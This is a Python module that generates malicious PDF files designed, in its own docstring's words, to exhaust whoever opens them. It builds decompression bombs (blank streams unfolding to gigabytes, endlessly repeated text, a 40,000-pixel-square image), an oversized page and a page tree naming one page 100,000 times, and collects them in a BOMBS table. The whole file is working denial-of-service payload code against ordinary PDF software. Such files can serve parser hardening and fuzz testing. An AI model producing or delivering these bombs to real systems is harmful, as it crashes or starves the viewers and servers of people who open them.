"""PDFs made to exhaust whoever opens them: thousands of pages, a sheet of kilometres, streams and pictures that unfold to gigabytes."""

from __future__ import annotations

import zlib
from collections.abc import Sequence


def pdf_of(objects: Sequence[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1, table, len(places) + 1, start,
    )  # fmt: skip
    return bytes(out)


def stream_of(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def one_page(content: bytes, box: bytes = b"0 0 595 842", image: bytes | None = None) -> bytes:
    resources = b"/Font << /F1 5 0 R >>" + (b" /XObject << /I 6 0 R >>" if image else b"")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << %s >> >>" % (box, resources),
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return pdf_of([*objects, image] if image else objects)


def unfolding(copies: bytes, times: int) -> bytes:
    """Zlib data that unfolds to `copies` × `times` without this process holding it."""
    packer, out = zlib.compressobj(9), bytearray()
    for _ in range(times):
        out += packer.compress(copies)
    return bytes(out + packer.flush())


def blank_stream_bomb(gigabytes: int = 2) -> bytes:
    """A page whose content is blanks without end."""
    return one_page(stream_of(unfolding(b" " * (1 << 20), gigabytes * 1024), b"/Filter /FlateDecode"))


def drawn_text_bomb(letters: int = 20_000_000) -> bytes:
    """A page that writes the same words over and over."""
    words = b"BT /F1 8 Tf 10 10 Td (abcdefghij) Tj ET\n" * 1000
    return one_page(stream_of(unfolding(words, letters // 10_000), b"/Filter /FlateDecode"))


def picture_bomb(side: int = 40_000) -> bytes:
    """A picture of `side` × `side` grey points that lies over the page."""
    more = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode" % (
        side,
        side,
    )
    image = stream_of(unfolding(bytes(side), side), more)
    return one_page(stream_of(b"q 595 0 0 842 0 0 cm /I Do Q"), image=image)


def endless_sheet() -> bytes:
    """A page of kilometres."""
    return one_page(stream_of(b"0 0 10000000 10000000 re f"), box=b"0 0 10000000 10000000")


def many_pages(count: int = 100_000) -> bytes:
    """One page object that the tree names again and again."""
    kids = b" ".join([b"3 0 R"] * count)
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream_of(b""),
        ]
    )


BOMBS = {
    "blanks": blank_stream_bomb,
    "letters": drawn_text_bomb,
    "picture": picture_bomb,
    "sheet": endless_sheet,
    "pages": many_pages,
}
